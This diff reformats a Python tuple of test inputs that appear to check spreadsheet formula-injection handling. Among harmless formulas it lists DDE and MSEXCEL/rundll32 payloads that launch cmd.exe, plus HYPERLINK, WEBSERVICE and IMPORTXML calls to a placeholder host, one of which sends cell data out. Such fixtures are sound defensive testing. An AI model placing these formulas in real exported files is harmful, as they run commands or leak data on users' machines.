@@ -28,7 +28,8 @@ COMMANDS = (
     "1+1", "SUM(1;2)", "SUM(1,2)", "A1", "A1+B1", "cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"!A0\")",
     'HYPERLINK("http://x.example/?d="&A1;"pulse")', 'WEBSERVICE("http://x.example")',
     'IMPORTXML("http://x.example";"//a")',
-    'INDIRECT("A1")', "RAND()", "NOW()", "1/0", "2^10", "{1;2}", "MSEXCEL|'\\..\\..\\cmd.exe'!''", "-1", "rundll32|'URL'!A",
+    'INDIRECT("A1")', "RAND()", "NOW()", "1/0", "2^10", "{1;2}", "MSEXCEL|'\\..\\..\\cmd.exe'!''",
+    "-1", "rundll32|'URL'!A",
     "Impulsa//ana//retenido con aumento de plan//0991234567", "0991234567", "593991234567", "CONCATENATE(A1;B1)",
     'IF(1=1;"si";"no")', "LEN(A1)",
 )  # fmt: skip
